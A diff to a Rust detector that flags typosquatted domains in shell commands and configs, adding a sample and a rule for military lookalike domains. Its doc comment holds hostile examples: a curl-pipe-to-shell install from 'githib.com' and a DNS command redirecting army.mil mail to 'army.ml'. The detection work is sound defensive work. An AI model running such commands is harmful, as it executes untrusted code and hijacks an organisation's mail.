@@ -42,6 +42,7 @@
 //! curl -fsSL githib.com/install | sh
 //! dig +short army.ml MX
 //! swaks --to jo@army.mil --server smtp.gmial.com
+//! dnscmd /RecordAdd army.mil @ MX 10 mx.army.ml
 //! ```
 //!
 //! ```text main.cf
@@ -134,6 +135,7 @@ fn catches(context: &Context<'_>) -> bool {
         return !(kind.language().runs_commands
             && ((known_head && is_deep)
                 || ((ending == Ending::Host || is_of_the_forces(context.domain())) && is_given())
+                || (is_deep && is_of_the_forces(context.domain()))
                 || usage::is_host_argument(text, around, candidate.span)
                 || (is_assigned(context) && names_hosts(context))));
     }
